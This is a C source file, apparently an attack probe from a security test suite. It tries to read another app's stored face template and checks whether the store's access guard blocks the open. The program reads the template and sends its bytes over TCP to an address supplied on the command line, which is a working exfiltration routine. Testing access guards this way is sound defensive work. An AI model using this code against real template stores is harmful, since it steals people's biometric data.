/* template_read.c - attack: a program that is not the template store's holder (root here) reads an enrolled face template and sends it to a third party. */
#include "attack.h"

#define ROUTE "template_read"

/*
 * usage: template_read TEMPLATE A.B.C.D:PORT
 * TEMPLATE lies in a template store whose holder is another app. This
 * process never opens a camera and holds no template: only the store's
 * own guard can stop it, at the open.
 */
int main(int argc, char **argv)
{
	struct sockaddr_storage ss;
	char buf[256];
	socklen_t len;
	ssize_t n;
	int fd, sock;

	if (argc != 3) {
		fprintf(stderr, "usage: " ROUTE " TEMPLATE A.B.C.D:PORT\n");
		return 2;
	}
	at_need_inet(ROUTE, argv[2], &ss, &len);
	fd = open(argv[1], O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return at_report_errno(ROUTE, "open of the template", errno);
	n = read(fd, buf, sizeof(buf));
	close(fd);
	if (n <= 0) {
		at_result(ROUTE, "error", "the template read %zd bytes", n);
		return 1;
	}
	sock = socket(ss.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (sock < 0 || connect(sock, (struct sockaddr *)&ss, len) < 0)
		return at_report_errno(ROUTE, "connect after reading the template", errno);
	if (send(sock, buf, (size_t)n, MSG_NOSIGNAL) != n)
		return at_report_errno(ROUTE, "send", errno);
	at_result(ROUTE, "through", "read %zd bytes of the template and sent them", n);
	return 0;
}
